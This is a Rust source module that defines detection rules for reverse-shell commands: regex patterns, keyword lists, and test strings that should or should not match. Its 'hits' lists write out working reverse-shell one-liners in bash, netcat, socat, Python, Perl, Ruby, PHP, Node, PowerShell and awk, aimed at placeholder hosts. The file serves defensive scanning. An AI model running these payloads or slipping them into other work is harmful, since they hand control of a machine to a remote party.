//! A shell of this machine is handed to another one.

use super::{
    Family::ReverseShell,
    Severity::High,
    judge::Judge,
    rule::{Look, Rule},
};

pub(super) const RULES: &[Rule] = &[
    Rule {
        id: "shell-to-socket",
        family: ReverseShell,
        severity: High,
        reason: "a shell reads from and writes to a network connection",
        hits: &[
            "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
            "exec 5<>/dev/tcp/c.attacker.example/443; cat <&5 | while read l; do $l 2>&5 >&5; done",
            "0<&196;exec 196<>/dev/tcp/$HOST/$PORT; sh <&196 >&196",
        ],
        misses: &[
            "timeout 1 bash -c '</dev/tcp/localhost/5432'",
            "reverse shells look like `bash -i >& /dev/tcp/...`",
            "echo > /dev/tcp/db/5432 && echo up",
        ],
        look: Look::Pattern {
            keywords: &["/dev/tcp/", "/dev/udp/"],
            pattern: concat!(
                r"\b(?:ba|z|k|da)?sh\s+-i\b[^\n]*/dev/(?:tcp|udp)/[\w.${}-]+/[\d$]\w*[^\n]*",
                r"|\bexec\s+[^\n]*<>\s*/dev/(?:tcp|udp)/[\w.${}-]+/[\d$]\w*[^\n]*",
            ),
            judge: Judge::LessWhenQuoted,
        },
    },
    Rule {
        id: "netcat-shell",
        family: ReverseShell,
        severity: High,
        reason: "netcat or socat hands a shell to a network connection",
        hits: &[
            "nc -e /bin/sh 192.0.2.7 4444",
            "ncat c.attacker.example 443 --exec \"/bin/bash\"",
            "nc 192.0.2.7 4444 -c bash",
            "socat TCP:192.0.2.7:4444 EXEC:'bash -li',pty,stderr",
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.7 \
             4444 > /tmp/f",
            "telnet 192.0.2.7 4444 | /bin/bash | telnet 192.0.2.7 4445",
        ],
        misses: &[
            "nc -zv localhost 5432",
            "mkfifo /tmp/pipe\ncat /tmp/pipe | grep x",
            "socat TCP-LISTEN:8080,fork TCP:localhost:80",
            "nc -lvnp 4444",
        ],
        look: Look::Pattern {
            keywords: &["nc ", "nc.", "ncat", "netcat", "socat", "mkfifo", "telnet"],
            pattern: concat!(
                r"\b(?:nc|ncat|netcat)(?:\.exe|\.traditional)?\s[^\n|;]*",
                r"(?:\s-[a-z]*[ec]|-e|--(?:sh-)?exec)[ =][\x22']?(?:\S*/)?",
                r"(?:(?:ba|z|da)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)\b[^\n]*",
                r"|\bsocat\s[^\n]*\b(?:exec|system):[^\n]*(?:sh|cmd|powershell)\b[^\n]*",
                r"|\bmkfifo\s[^\n]*(?:\n[^\n]*)?\bsh\s+-i\b[^\n]*\|\s*",
                r"(?:nc|ncat|netcat|openssl|telnet)\b[^\n]*",
                r"|\btelnet\s[^\n|]*\|\s*(?:/bin/)?(?:ba)?sh\s*\|\s*telnet\b[^\n]*",
            ),
            judge: Judge::LessWhenQuoted,
        },
    },
    Rule {
        id: "socket-as-terminal",
        family: ReverseShell,
        severity: High,
        reason: "a program makes a network connection the terminal of a shell",
        hits: &[
            "import socket,os,pty\ns=socket.socket()\ns.connect((\"192.0.2.7\",4444))\n\
             [os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn(\"sh\")",
            "perl -e 'use Socket;$i=\"192.0.2.7\";socket(S,PF_INET,SOCK_STREAM,0);\
             exec(\"/bin/sh -i\");'",
            "ruby -rsocket -e 'spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"192.0.2.7\",4444))'",
            "php -r '$s=fsockopen(\"192.0.2.7\",4444);exec(\"sh <&3 >&3\");'",
            "const cp = require('child_process'); const sh = cp.spawn('sh');\n\
             client.connect(4444, '192.0.2.7', () => { client.pipe(sh.stdin); });",
            "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.7',4444); $r = (iex \
             $d 2>&1 | Out-String)",
            "awk 'BEGIN {s = \"/inet/tcp/0/192.0.2.7/4444\"; while (1) { s |& getline c; \
             c | getline }}'",
        ],
        misses: &[
            "s = socket.socket()\ns.bind(('', 80))\ns.listen()",
            "os.dup2(log.fileno(), 1)",
            "const cp = require('child_process'); cp.spawn('ls').stdout.pipe(process.stdout);",
            "Test with Net.Sockets.TCPClient whether the port is open",
        ],
        look: Look::Pattern {
            keywords: &["socket", "fsockopen", "/inet/tcp/", "child_process"],
            pattern: concat!(
                r"(?s:\bsocket\.socket\b.*?(?:\bdup2\s*\(|\bpty\.spawn\s*\())",
                r"|\bperl\s[^\n]*socket[^\n]*exec[^\n]*",
                r"|\bruby\s+-rsocket[^\n]*(?:exec|spawn|popen)[^\n]*",
                r"|\bfsockopen\s*\([^\n]*\b(?:exec|shell_exec|proc_open|passthru|system)",
                r"\s*\([^\n]*|(?s:\bchild_process\b.*?\.pipe\(\s*\w+\.stdin\b)",
                r"|(?s:\bnet\.sockets\.tcpclient\b.*?\b(?:iex|invoke-expression)\b)",
                r"|/inet/tcp/0/[\w.]+/\d+[^\n]*",
            ),
            judge: Judge::LessWhenQuoted,
        },
    },
];
